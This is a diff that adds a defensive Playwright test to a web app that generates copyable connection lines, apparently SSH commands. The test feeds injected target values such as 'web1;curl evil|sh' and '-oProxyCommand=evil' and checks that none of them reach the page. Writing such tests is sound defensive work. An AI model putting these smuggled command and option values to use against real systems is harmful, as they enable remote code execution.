@@ -97,6 +97,16 @@ test('a press copies the whole line, and one key the line of the remembered clie
   await page.context().close()
 })
 
+test('attack: a link cannot put words of its own into a line that is copied', async () => {
+  for (const target of ['web1;curl evil|sh', 'web1\n', '-oProxyCommand=evil', 'web1 evil']) {
+    const page = await open(`/?target=${encodeURIComponent(target)}`)
+    await rows(page).first().waitFor()
+    expect(await page.getByRole('heading', { name: /^Connect to/ }).count()).toBe(0)
+    expect(await page.locator('main').innerText()).not.toContain('evil')
+    await page.context().close()
+  }
+})
+
 test('Esc closes the lines, and the focus returns to the row', async () => {
   const page = await open('/')
   await page.getByRole('link', { name: 'Connect to db1' }).click()
